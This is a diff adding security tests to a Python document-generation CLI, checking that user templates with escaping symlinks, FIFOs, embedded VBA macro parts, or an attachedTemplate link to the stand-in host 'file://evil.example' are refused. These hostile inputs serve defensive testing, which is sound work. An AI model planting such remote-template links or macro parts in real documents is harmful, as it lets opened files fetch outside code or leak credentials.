@@ -979,3 +979,132 @@ def test_damaged_manifest_and_a_folder_in_place_of_an_output_are_rebuilt(one_art
     assert (folder / "deck.pptx").is_file()
     assert (folder / "preview" / "contact-sheet.png").read_bytes() == b"png"
     assert not Path("out/.staging").exists()
+
+
+# --- what a user template may reach (#19) -------------------------------------------------------
+
+
+def test_symlink_out_of_a_template_folder_is_refused(tmp_path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("token: 1234", encoding="utf-8")
+    folder = _template(tmp_path, "# {% include 'notes.txt' %}")
+    os.symlink(secret, folder / "notes.txt")
+    problem = f"a symbolic link to {secret}, outside the template folder; copy the file in instead"
+    for command in (["brief", str(ARTICLE)], ["build", str(ARTICLE), "--no-verify"]):
+        fails(
+            [*command, "--template", str(folder), "-o", str(tmp_path / "out" / "b.docx")],
+            2,
+            f"{folder / 'notes.txt'}: {problem}",
+        )
+    assert not (tmp_path / "out").exists()
+
+
+def test_symlink_inside_a_template_folder_is_fine(tmp_path) -> None:
+    folder = _template(tmp_path, "# {% include 'notes.txt' %}")
+    (folder / "real.txt").write_text("just words", encoding="utf-8")
+    os.symlink("real.txt", folder / "notes.txt")
+    result = runner.invoke(
+        app, ["brief", str(ARTICLE), "--template", str(folder), "-o", str(tmp_path / "b.docx")]
+    )
+    assert result.exit_code == 0, result.output
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
+@pytest.mark.timeout(30)
+def test_fifo_in_a_template_folder_is_refused(tmp_path) -> None:
+    folder = _template(tmp_path, "")
+    os.mkfifo(folder / "brief_labels_zh.yaml")
+    fails(
+        ["build", str(ARTICLE), "--template", str(folder), "-o", str(tmp_path / "out")],
+        2,
+        f"{folder / 'brief_labels_zh.yaml'}: not a regular file (a FIFO)",
+    )
+
+
+def _reference_with(tmp_path: Path, name: str, extra: dict[str, bytes]) -> Path:
+    """A copy of the built-in reference file with parts added or replaced."""
+    import zipfile
+
+    path = tmp_path / name
+    with (
+        zipfile.ZipFile(DEFAULT / name) as source,
+        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for item in source.infolist():
+            if item.filename not in extra:
+                target.writestr(item, source.read(item))
+        for part, data in extra.items():
+            target.writestr(part, data)
+    return path
+
+
+def _rels_with(name: str, part: str, relationship: str) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(DEFAULT / name) as source:
+        xml = source.read(part)
+    return xml.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
+
+
+ATTACHED = (
+    '<Relationship Id="rId999" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/attachedTemplate" Target="file://evil.example/share/t.dotm" '
+    'TargetMode="External"/>'
+)
+HYPERLINK = (
+    '<Relationship Id="rId998" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships/hyperlink" Target="https://example.com/" TargetMode="External"/>'
+)
+
+
+@pytest.mark.parametrize(
+    ("command", "name", "part", "data", "problem"),
+    [
+        (
+            "brief", "reference.docx", "word/vbaProject.bin", b"\xd0\xcf\x11\xe0",
+            "the template contains macros (word/vbaProject.bin); save it as a macro-free .docx "
+            "and use that",
+        ),
+        (
+            "deck", "reference.pptx", "ppt/vbaProject.bin", b"\xd0\xcf\x11\xe0",
+            "the template contains macros (ppt/vbaProject.bin); save it as a macro-free .pptx "
+            "and use that",
+        ),
+        (
+            "brief", "reference.docx", "word/_rels/document.xml.rels", ATTACHED,
+            "the template links to an outside resource (attachedTemplate "
+            "'file://evil.example/share/t.dotm' in word/_rels/document.xml.rels); remove the "
+            "link and save it again",
+        ),
+    ],
+    ids=["docx-macro", "pptx-macro", "docx-attached-template"],
+)  # fmt: skip
+def test_reference_file_with_macros_or_outside_links(tmp_path, command, name, part, data, problem):
+    if isinstance(data, str):
+        data = _rels_with(name, part, data)
+    path = _reference_with(tmp_path, name, {part: data})
+    fails(
+        [command, str(ARTICLE), "--template", str(path), "-o", str(tmp_path / "out" / "x")],
+        2,
+        f"{path}: {problem}",
+    )
+    folder = tmp_path / "mine"
+    folder.mkdir()
+    (folder / name).write_bytes(path.read_bytes())
+    fails(
+        [command, str(ARTICLE), "--template", str(folder), "-o", str(tmp_path / "out" / "x")],
+        2,
+        f"{folder / name}: {problem}",
+    )
+    assert not (tmp_path / "out").exists()
+
+
+def test_reference_file_with_a_plain_hyperlink_is_fine(tmp_path) -> None:
+    part = "word/_rels/document.xml.rels"
+    path = _reference_with(
+        tmp_path, "reference.docx", {part: _rels_with("reference.docx", part, HYPERLINK)}
+    )
+    result = runner.invoke(
+        app, ["brief", str(ARTICLE), "--template", str(path), "-o", str(tmp_path / "b.docx")]
+    )
+    assert result.exit_code == 0, result.output
